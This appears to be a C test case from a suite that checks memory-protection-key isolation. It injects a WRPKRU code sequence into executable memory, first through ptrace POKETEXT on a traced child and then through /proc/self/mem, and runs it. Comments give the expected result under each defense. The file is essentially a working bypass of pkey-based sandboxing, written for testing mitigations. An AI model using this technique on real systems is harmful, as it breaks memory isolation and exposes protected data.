/* WRPKRU that a tracer writes into the executable memory of its tracee, and by /proc/PID/mem the tracee itself, who then run it. */
/* none: succeeded */
/* no keys: SIGILL */
/* pkey: SIGSEGV */
/* process: EIO */
#include "code.h"
#include <sys/ptrace.h>

static int attack(void)
{
	unsigned char *p = memory(PAGE, PROT_READ | PROT_EXEC);
	int st = 0;
	pid_t c = fork();
	if (c == 0) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		((code *)p)();
		_exit(loot() == 0 ? 1 : 2);
	}
	waitpid(c, &st, 0);
	for (size_t at = 0; at < sizeof OPEN; at += 8) {
		uint64_t word = 0;
		memcpy(&word, OPEN + at, sizeof OPEN - at < 8 ? sizeof OPEN - at : 8);
		if (ptrace(PTRACE_POKETEXT, c, p + at, word))
			return errno;
	}
	ptrace(PTRACE_CONT, c, 0, 0);
	waitpid(c, &st, 0);
	/* A signal stops it once more. */
	if (WIFSTOPPED(st)) {
		ptrace(PTRACE_CONT, c, 0, WSTOPSIG(st));
		waitpid(c, &st, 0);
	}
	if (WIFEXITED(st) && WEXITSTATUS(st) == 1)
		return 0;
	int f = open("/proc/self/mem", O_RDWR);
	if (f < 0 || pwrite(f, OPEN, sizeof OPEN, (off_t)(uintptr_t)p) != sizeof OPEN)
		return errno;
	((code *)p)();
	return loot();
}
